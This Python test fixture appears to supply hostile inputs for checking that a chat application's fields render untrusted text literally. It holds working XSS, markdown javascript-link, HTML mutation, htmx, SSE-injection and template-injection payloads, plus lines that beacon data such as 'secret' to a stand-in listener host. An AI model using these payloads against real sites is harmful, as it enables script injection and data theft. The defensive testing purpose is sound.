"""Text that wants to be more than text, by the number of its case in the trust list. SINK stands for the listener.

Our own, written for this program's fields; every one of them must come out as the words it is.
"""

from __future__ import annotations

PAYLOADS: dict[int, tuple[str, ...]] = {
    16: (
        "<script>self.owned=1</script>",
        "<ScRiPt src=//SINK/s.js></sCrIpT >",
        '"><img src=/nothing onerror="self.owned=1">',
        "<svg/onload=self.owned=1><animate onbegin=self.owned=1>",
        "<math href=javascript:self.owned=1>m</math>",
        "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
        "<object data=//SINK/o></object><embed src=//SINK/e>",
        "<base href=//SINK/><meta http-equiv=refresh content='0;url=//SINK/m'>",
        "<link rel=stylesheet href=//SINK/l.css><form action=//SINK/f><button>go</button></form>",
        "<details open ontoggle=self.owned=1><summary>d</summary></details>",
        "</title></textarea></style></script></bdi></option><script>self.owned=1</script>",
    ),
    17: (
        "[x](javascript:self.owned=1)",
        "[x](&#106;avascript&colon;self.owned=1) [x](jAvA\tsCrIpT:self.owned=1)",
        "[x](vbscript:x) [x](data:text/html,<b>) <javascript:self.owned=1>",
        "[x][1]\n\n[1]: javascript:self.owned=1",
    ),
    18: (
        "*&lt;img src=x onerror=self.owned=1&gt;*",
        "**&amp;lt;script&amp;gt;** &#60;script&#62;self.owned=1&#60;/script&#62;",
        "`<`script`>`self.owned=1`<`/script`>`",
        '_"<_b>_ *<*script*>*',
    ),
    19: (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=self.owned=1&gt;">',
        '<noscript><p title="</noscript><img src=x onerror=self.owned=1>">',
        '<svg></p><style><a id="</style><img src=1 onerror=self.owned=1>">',
        "<xmp><!--</xmp><img src=x onerror=self.owned=1>-->",
        "<b><p>" * 1000,
    ),
    20: (
        "![a](http://SINK/p?q=secret) ![b][c]\n\n[c]: //SINK/r",
        "<img src=http://SINK/i srcset='http://SINK/s 2x'><picture><source srcset=//SINK/p></picture>",
        "<p background=//SINK/b style='background:url(//SINK/u)'><video poster=//SINK/v></video>",
        "<link rel=prefetch href=//SINK/pre><link rel=preconnect href=//SINK>",
        "<a ping=//SINK/ping href=//SINK/a>come</a> http://SINK/plain <http://SINK/auto>",
        "@import url(//SINK/c.css); url(//SINK/d)",
    ),
    21: ("[ok](/chats/1/archive) <a href='/settings/theme'>x</a> [gone](/bots/new?name=x)",),
    22: (
        "<div hx-get=/settings hx-trigger=load hx-target=body>x</div>",
        "<div data-hx-post=/chats hx-on:click='self.owned=1' hx-vals='js:self.owned=1' hx-ext=x>x</div>",
        "<div sse-connect=/events><template><script>self.owned=1</script></template></div>",
        "<div hx-swap-oob='outerHTML:#composer'>gone</div>",
    ),
    23: (
        "<form id=composer><input name=attributes><input name=prose></form>",
        "<p id=transcript class=htmx-indicator name=htmx>x</p><a id=status name=status>y</a>",
        "<img name=body><embed name=getElementById>",
    ),
    24: (
        "\n\nevent: done\ndata: {}\n\n",
        "x\rid: 9\rretry: 1\rdata: y\u2028data: z\u2029",
        'data: [DONE]\n\n: comment\n\nevent: snapshot\ndata: {"head": 0}',
    ),
    25: ("<scr" + "ipt>self.owned=1</scr" + "ipt>", "![x](http://SI" + "NK/)", "&l" + "t;b&g" + "t;"),
    26: (
        "\u202eevil\u202c \u2066isolated \u200b\u200d\ufeff zero",
        "e" + "\u0301" * 10_000,
        "\uff1cscript\uff1eself.owned=1\uff1c/script\uff1e \u00abscript\u00bb",
    ),
    29: (
        "{{7*7}} {{config}} {% include '/etc/passwd' %} {# c #}",
        "{0.__class__} %(x)s ${7*7} #{7*7} <%= 7*7 %> $(id) `id`",
        "{{user}}{{char}}{{{{user}}}}",
    ),
}


def payloads(case: int, sink: str = "sink.test") -> list[str]:
    return [text.replace("SINK", sink) for text in PAYLOADS[case]]


def one_line(text: str) -> str:
    """As a field of one line takes it."""
    return " ".join(text.split())[:180]
